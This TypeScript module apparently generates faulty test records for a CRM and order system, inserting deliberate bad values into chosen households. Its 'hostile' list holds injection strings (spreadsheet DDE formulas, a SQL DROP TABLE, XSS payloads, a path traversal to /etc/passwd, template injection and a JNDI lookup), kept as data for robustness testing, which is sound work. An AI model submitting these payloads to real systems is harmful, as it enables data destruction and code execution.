import type { Spelling } from "./spelling.ts";

/** Something wrong that was put into a record on purpose, by the name `truth/fault.csv` gives it. */
export interface Fault {
  readonly kind: string;
  readonly change: Partial<Spelling>;
  readonly company?: string;
}

/** Texts that break careless programs: in spreadsheets, SQL, HTML, shells, templates, logs and file names. */
export const hostile: readonly Fault[] = [
  { kind: "hostile_formula", change: { first: "=cmd|' /C calc'!A0" } },
  { kind: "hostile_sql", change: { last: "Robert'); DROP TABLE contact;--" } },
  { kind: "hostile_html", change: {}, company: "<script>alert(1)</script>" },
  { kind: "hostile_path", change: { street: "../../etc/passwd" } },
  { kind: "hostile_template", change: { first: "{{constructor.constructor('return process')()}}" } },
  { kind: "hostile_quotes", change: { last: `O'Hara "Bob", Jr.; \\N \\.` } },
  { kind: "hostile_plus", change: { street: "+44@SUM(1+1)*cmd|' /C calc'!A0" } },
  { kind: "hostile_unicode", change: { first: "Zoë\u0301 😀", last: "\u202Enosnhoj" } },
  { kind: "hostile_lines", change: { street: "1 Line Street\r\nSecond Line\tTabbed" } },
  { kind: "hostile_lookup", change: { first: "${jndi:ldap://x.example/a}", last: "%s%n" } },
  { kind: "hostile_null", change: { last: "NULL" } },
  { kind: "hostile_image", change: {}, company: `"><img src=x onerror=alert(1)>` },
];

/** Values that sensible contracts refuse: three kinds. */
const broken: readonly Fault[] = [
  { kind: "empty_last_name", change: { last: "" } },
  { kind: "impossible_email", change: { email: "no.at.sign.example.com" } },
  { kind: "born_in_future", change: { born: "2087-04-01" } },
  { kind: "impossible_email", change: { email: "two@@example..com" } },
];

/** What people type to get past a form. */
const junk: readonly Fault[] = [
  { kind: "junk_email_invalid", change: { email: "asdf@asdf" } },
  { kind: "junk_phone", change: { phone: "0000000000" } },
  { kind: "junk_name", change: { first: "test", last: "test" } },
  { kind: "junk_email_shared", change: { email: "test@example.com" } },
  { kind: "junk_email_invalid", change: { email: "n/a" } },
  { kind: "junk_phone", change: { phone: "n/a" } },
  { kind: "junk_email_shared", change: { email: "noreply@example.com" } },
  { kind: "junk_address", change: { street: "xxx", city: "n/a" } },
  { kind: "junk_phone", change: { phone: "01234567890" } },
];

const firstHostile = 10;
const hostileEvery = 6;
const brokenEvery = 150;
const junkEvery = 50;

/** What is wrong with the records of a household's first person; `null` for nearly all. Hostile texts come once each, early. */
export function faultOf(household: number): Fault | null {
  const turn = (household - firstHostile) / hostileEvery;
  if (Number.isInteger(turn) && hostile[turn] !== undefined) return hostile[turn];
  if (household % brokenEvery === 33) return inTurn(broken, Math.floor(household / brokenEvery));
  if (household % junkEvery === 7) return inTurn(junk, Math.floor(household / junkEvery));
  return null;
}

const brokenCustomers: readonly Fault[] = [
  { kind: "empty_full_name", change: {} },
  { kind: "impossible_email", change: { email: "customer(at)example.com" } },
];

/** The same for the order system: hostile texts as in the CRM, broken and junk records of its own. */
export function customerFaultOf(household: number): Fault | null {
  const fault = faultOf(household);
  if (fault?.kind.startsWith("hostile_") === true) return fault.company === undefined ? fault : null;
  if (household % brokenEvery === 83) return inTurn(brokenCustomers, Math.floor(household / brokenEvery));
  if (household % junkEvery === 31) return inTurn(junk, Math.floor(household / junkEvery));
  return null;
}

function inTurn(faults: readonly Fault[], turn: number): Fault | null {
  return faults[turn % faults.length] ?? null;
}
